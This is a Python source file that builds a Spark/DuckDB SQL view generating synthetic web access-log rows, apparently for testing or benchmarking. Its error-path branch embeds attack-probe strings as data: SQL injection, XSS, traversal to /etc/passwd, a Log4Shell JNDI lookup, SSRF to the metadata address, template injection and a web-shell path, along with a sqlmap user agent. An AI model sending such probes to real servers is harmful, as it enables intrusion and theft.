"""The access-log view over the given tables.

One SQL text for Spark and DuckDB.  It derives a complete access-log record
from every event; the referer is the URL of a page, spread over all pages.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

HITS_SQL = """
SELECT e.event_id AS seq, e.ts AS ts,
  '203.0.' || CAST(CAST(floor(e.user_id / 250) AS BIGINT) AS STRING) || '.' || CAST(e.user_id % 250 AS STRING) AS ip,
  CASE WHEN e.event_id % 211 = 0 THEN 'TRACE'
       WHEN e.event_type IN ('purchase','signup') THEN 'POST' ELSE 'GET' END AS method,
  CASE e.event_type
    WHEN 'view' THEN CASE e.event_id % 5
      WHEN 0 THEN '/media/catalog/product/' || e.k || '.JPG' WHEN 1 THEN '/static/app.' || e.k || '.js'
      WHEN 2 THEN '/catalogsearch/result/?q=' || e.k        WHEN 3 THEN '/catalog/product/view/id/' || e.k
      ELSE '/' END
    WHEN 'click' THEN CASE e.event_id % 5
      WHEN 0 THEN '/graphql?op=GetProduct' WHEN 1 THEN '/rest/V1/products/' || e.k
      WHEN 2 THEN '/wp-json/wc/v3/orders'  WHEN 3 THEN '/store-api/category' ELSE '/cart/add/' || e.k END
    WHEN 'purchase' THEN CASE e.event_id % 2 WHEN 0 THEN '/checkout/onepage' ELSE '/sales/order/' || e.k END
    WHEN 'signup' THEN CASE e.event_id % 3 WHEN 0 THEN '/customer/account/login' WHEN 1 THEN '/wp-login.php' ELSE '/admin/dashboard' END
    ELSE CASE e.event_id % 17
      WHEN 0 THEN '/index.php?id=1+union+select+1'   WHEN 1 THEN '/s?q=<script>alert(1)</script>'
      WHEN 2 THEN '/a/../../etc/passwd'              WHEN 3 THEN '/x?c=a|b'
      WHEN 4 THEN '/p?f=php://input'                 WHEN 5 THEN '/.git/config'
      WHEN 6 THEN '/up/c99.php'                      WHEN 7 THEN '/?x=${jndi:ldap://h/a}'
      WHEN 8 THEN '/fetch?u=169.254.169.254'         WHEN 9 THEN '/go?redirect=https://evil.example'
      WHEN 10 THEN '/xml?d=<!DOCTYPE'                WHEN 11 THEN '/h?v=%0d%0aX'
      WHEN 12 THEN '/t?n={{7*7}}'                    WHEN 13 THEN '/api/u?p[$ne]=1'
      WHEN 14 THEN '/j?__proto__=1'                  WHEN 15 THEN '/%2e%2e/conf'
      ELSE '/xmlrpc.php' END END AS path,
  CASE WHEN e.user_id % 13 = 5 AND e.event_id % 10 <> 0 THEN 404
       WHEN e.event_type = 'error' THEN CASE e.event_id % 6 WHEN 0 THEN 401 WHEN 1 THEN 403 WHEN 2 THEN 404 WHEN 3 THEN 429 WHEN 4 THEN 500 ELSE 503 END
       WHEN e.event_type = 'signup' AND e.event_id % 2 = 0 THEN 401
       WHEN e.event_type = 'click' AND e.event_id % 7 = 0 THEN 304 ELSE 200 END AS status,
  CAST(floor(e.value * 10000) AS BIGINT) AS bytes_sent,
  e.value / 100.0 AS response_time,
  CASE e.user_id % 11
    WHEN 0 THEN 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'
    WHEN 1 THEN 'Mozilla/5.0 (compatible; ChatGPT-User/1.0; +https://openai.com/bot)'
    WHEN 2 THEN 'facebookexternalhit/1.1' WHEN 3 THEN 'curl/8.0' WHEN 4 THEN 'sqlmap/1.7'
    WHEN 5 THEN '' WHEN 6 THEN '-' WHEN 7 THEN 'CCBot/2.0 (https://commoncrawl.org/faq/)'
    WHEN 8 THEN 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) Mobile Safari/604.1'
    WHEN 9 THEN 'SomeCrawler/0.1' ELSE 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0' END AS user_agent,
  CASE WHEN e.user_id % 25 = 24 THEN '' ELSE n.n_name END AS country,
  CASE e.event_id % 4 WHEN 0 THEN 'varnish' WHEN 1 THEN 'phpfpm' WHEN 2 THEN 'static' ELSE '' END AS handler
  /*referer*/
FROM (SELECT *, regexp_extract(props, '[0-9]+', 0) AS k /*page*/ FROM {events}) e
LEFT JOIN {nation} n ON n.n_nationkey = e.user_id % 25
/*pages*/
"""

_REFERER = ", coalesce(p.url, '') AS referer"
_PAGE = ", event_id % (SELECT count(*) FROM {pages}) AS page_key"
_PAGES = "LEFT JOIN {pages} p ON p.page_id = e.page_key"


def _text(referer: bool) -> str:
    text = HITS_SQL
    for mark, part in (("/*referer*/", _REFERER), ("/*page*/", _PAGE), ("/*pages*/", _PAGES)):
        text = text.replace(mark, part if referer else "")
    return text


def hits(spark: SparkSession, sf_dir: str, referer: bool = False, stream: bool = False) -> DataFrame:
    """The view as a DataFrame.

    Without ``referer`` no page is read: the join with ``pages`` is the only
    part of the view that shuffles events, and few operators need it.  With
    ``stream`` the events are read as a stream.
    """
    tables = {t: spark.read.parquet(f"{sf_dir}/{t}.parquet") for t in ("events", "nation")}
    if stream:
        tables["events"] = spark.readStream.schema(tables["events"].schema).option(
            "pathGlobFilter", "events.parquet").parquet(sf_dir)
    if referer:
        tables["pages"] = spark.read.parquet(f"{sf_dir}/pages.parquet").select("page_id", "url")
    # Only the table marks are meant as marks; other braces belong to the text.
    text = _text(referer).replace("{", "{{").replace("}", "}}")
    for table in tables:
        text = text.replace("{{" + table + "}}", "{" + table + "}")
    return spark.sql(text, **tables)


def hits_oracle(referer: bool = False) -> str:
    """The same text for DuckDB, over its pre-registered views."""
    text = _text(referer)
    for table in ("events", "nation", "pages"):
        text = text.replace("{" + table + "}", table)
    return text.strip()
